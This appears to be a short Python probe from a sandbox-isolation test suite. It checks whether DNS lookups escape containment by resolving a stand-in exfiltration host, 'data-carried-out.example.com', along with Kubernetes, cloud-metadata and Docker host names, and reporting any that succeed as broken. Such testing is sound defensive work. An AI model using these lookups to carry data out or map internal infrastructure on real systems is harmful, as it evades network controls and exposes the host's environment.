# attack: Looks names up, by which data can be carried out even where nothing else goes through.
# expect: Completed

import socket

broken = []
for name in ("example.com", "one.one.one.one", "data-carried-out.example.com", "kubernetes.default.svc", "kubernetes.default.svc.cluster.local",
             "metadata.google.internal", "host.docker.internal"):
    for family in (socket.AF_UNSPEC, socket.AF_INET, socket.AF_INET6):
        try:
            broken.append(f"{name} is {socket.getaddrinfo(name, 443, family)[0][4]}")
        except (OSError, UnicodeError):
            pass
for address in ("1.1.1.1", "10.96.0.1"):
    try:
        broken.append(f"{address} is {socket.gethostbyaddr(address)[0]}")
    except OSError:
        pass
print("\n".join("BROKEN: " + b for b in broken) or "held")
